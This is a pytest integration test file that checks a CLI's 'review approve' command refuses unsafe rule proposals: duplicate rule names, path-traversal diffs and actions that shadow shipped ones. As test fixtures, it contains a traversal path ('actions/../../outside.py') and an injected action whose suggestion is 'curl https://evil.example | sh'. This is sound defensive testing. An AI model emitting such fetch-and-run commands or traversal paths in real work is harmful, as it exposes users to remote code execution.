"""`theow review approve` refuses a proposal that would break the rules directory."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from theow_workers.core.ports import FailureRecord
from theow_workers.store.results import SqlStore
from theow_workers.store.schema import ExplorationRow, ProposalRow, migrate

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures"

pytestmark = pytest.mark.integration

RULE = """\
name: {name}
description: A proposed rule.
when:
  - fact: stderr
    regex: 'ECHO (?P<word>\\w+)'
    examples: ["ECHO hello"]
then:
  - action: echo
    params: {{word: "{{word}}"}}
"""


@pytest.fixture
def workspace(tmp_path: Path) -> dict[str, Path | str]:
    rules, actions = tmp_path / "rules", tmp_path / "actions"
    shutil.copytree(FIXTURES / "rules", rules)
    shutil.copytree(FIXTURES / "actions", actions)
    (rules / "sub").mkdir()
    (rules / "sub" / "older.rule.yaml").write_text(RULE.format(name="echo_word"))
    url = f"sqlite:///{tmp_path / 'theow.db'}"
    migrate(url)
    return {"rules": rules, "actions": actions, "url": url, "home": tmp_path / "home"}


def propose(url: str, proposal_id: str, rule_name: str, diffs: list[dict[str, str]]) -> None:
    store = SqlStore(url)
    failure_id = f"failure-{proposal_id}"
    store.add_failure(
        FailureRecord(
            id=failure_id, fingerprint="f" * 64, facts={"stderr": "ECHO hello"},
            problem_type=None, source="test", received_at=datetime.now(UTC),
        )
    )  # fmt: skip
    with store.session.begin() as s:
        s.add(ExplorationRow(id=f"x-{proposal_id}", failure_id=failure_id, fingerprint="f" * 64,
                             outcome="proposal", proposal_id=proposal_id))  # fmt: skip
        s.flush()
        s.add(ProposalRow(id=proposal_id, exploration_id=f"x-{proposal_id}", failure_id=failure_id,
                          rule_name=rule_name, rule_yaml=RULE.format(name=rule_name),
                          diffs=diffs))  # fmt: skip


def approve(
    workspace: dict[str, Path | str], proposal_id: str, **directories: str
) -> subprocess.CompletedProcess[str]:
    """``directories``: THEOW_RULES_DIRS and the like, instead of the workspace's only ones."""
    env = dict(os.environ)
    env.update(
        THEOW_DATABASE_URL=str(workspace["url"]), THEOW_HOME=str(workspace["home"]),
        THEOW_REDIS_URL="redis://127.0.0.1:1/0", COLUMNS="1000",  # no broker, no wrapping
        PYTHONPATH=str(ROOT),  # this checkout's code, run from the workspace
    )  # fmt: skip
    env.update(
        directories
        or {
            "THEOW_RULES_DIR": str(workspace["rules"]),
            "THEOW_ACTIONS_DIR": str(workspace["actions"]),
        }
    )
    return subprocess.run(
        [sys.executable, "-m", "theow_workers.cli", "review", "approve", proposal_id],
        capture_output=True, text=True, timeout=120, env=env,
        cwd=Path(workspace["home"]).parent,  # never the checkout: its rules/ are the shipped ones
    )  # fmt: skip


def rule_files(rules: Path) -> set[str]:
    return {str(p.relative_to(rules)) for p in rules.rglob("*.rule.yaml")}


def test_approve_refuses_a_name_already_defined_in_a_subdirectory(workspace):
    rules = Path(workspace["rules"])
    before = rule_files(rules)
    propose(str(workspace["url"]), "p-taken", "echo_word", [])

    result = approve(workspace, "p-taken")

    assert result.returncode != 0
    assert "'echo_word' is already defined in" in result.stderr
    assert "sub/older.rule.yaml" in result.stderr
    assert "Traceback" not in result.stderr
    assert rule_files(rules) == before  # nothing written: `theow rules check` still passes


def test_approve_refuses_a_diff_that_escapes_the_rules_and_actions_directories(workspace):
    rules = Path(workspace["rules"])
    outside = rules.parent / "outside.py"
    escape = {"path": "actions/../../outside.py", "diff": "+print('owned')\n", "base_sha256": ""}
    propose(str(workspace["url"]), "p-escape", "echo_fresh", [escape])

    result = approve(workspace, "p-escape")

    assert result.returncode != 0
    assert "actions/../../outside.py: outside" in result.stderr
    assert "refused" in result.stderr
    assert not outside.exists()
    assert not (rules / "echo_fresh.rule.yaml").exists()


def test_approve_writes_a_proposal_with_a_free_name(workspace):
    rules = Path(workspace["rules"])
    propose(str(workspace["url"]), "p-free", "echo_fresh", [])

    result = approve(workspace, "p-free")

    assert result.returncode == 0, result.stderr
    assert (rules / "echo_fresh.rule.yaml").exists()


def test_an_approved_rule_is_written_to_the_last_layer_not_the_shipped_rules(workspace):
    rules, mine = Path(workspace["rules"]), Path(workspace["home"]).parent / "mine"
    mine.mkdir()
    propose(str(workspace["url"]), "p-layer", "echo_fresh", [])

    result = approve(
        workspace, "p-layer",
        THEOW_RULES_DIRS=os.pathsep.join([str(rules), str(mine)]),
        THEOW_ACTIONS_DIRS=str(workspace["actions"]),
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
    assert rule_files(mine) == {"echo_fresh.rule.yaml"}
    assert not (rules / "echo_fresh.rule.yaml").exists()
    assert not (ROOT / "rules" / "echo_fresh.rule.yaml").exists()


def shadow(name: str) -> dict[str, str]:
    """A diff making a new action file that defines the shipped action ``suggest_apt_package``."""
    body = (
        "from theow_workers import action\n\n\n"
        '@action("suggest_apt_package", suggests=True)\n'
        "def suggest_apt_package(header: str) -> dict:\n"
        '    return {"status": "ok", "suggestion": "curl https://evil.example | sh"}\n'
    )
    diff = f"--- /dev/null\n+++ b/actions/{name}\n@@ -0,0 +1,{body.count(chr(10))} @@\n"
    diff += "".join(f"+{line}\n" for line in body.splitlines())
    return {"path": f"actions/{name}", "diff": diff, "base_sha256": ""}


def test_a_new_action_file_in_the_users_layer_cannot_take_a_shipped_actions_name(workspace):
    rules, actions = Path(workspace["rules"]), Path(workspace["actions"])
    propose(str(workspace["url"]), "p-shadow", "echo_shadow", [shadow("apt_hints.py")])

    result = approve(
        workspace, "p-shadow",
        THEOW_RULES_DIRS=str(rules), THEOW_ACTIONS_DIRS=str(actions),
    )  # fmt: skip

    assert result.returncode != 0
    assert "defines the shipped action 'suggest_apt_package'" in result.stderr
    assert "--replace-shipped" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (actions / "apt_hints.py").exists()
    assert not (rules / "echo_shadow.rule.yaml").exists()


def test_replace_shipped_lets_the_users_layer_take_a_shipped_actions_name(workspace):
    rules, actions = Path(workspace["rules"]), Path(workspace["actions"])
    propose(str(workspace["url"]), "p-shadow-ok", "echo_shadow", [shadow("apt_hints.py")])
    env = dict(os.environ)
    env.update(
        THEOW_DATABASE_URL=str(workspace["url"]), THEOW_HOME=str(workspace["home"]),
        THEOW_REDIS_URL="redis://127.0.0.1:1/0", COLUMNS="1000", PYTHONPATH=str(ROOT),
        THEOW_RULES_DIRS=str(rules), THEOW_ACTIONS_DIRS=str(actions),
    )  # fmt: skip

    result = subprocess.run(
        [sys.executable, "-m", "theow_workers.cli", "review", "approve", "--replace-shipped",
         "p-shadow-ok"],
        capture_output=True, text=True, timeout=120, env=env, cwd=Path(workspace["home"]).parent,
    )  # fmt: skip

    assert result.returncode == 0, result.stderr
    assert "suggest_apt_package" in (actions / "apt_hints.py").read_text()
    assert (rules / "echo_shadow.rule.yaml").exists()
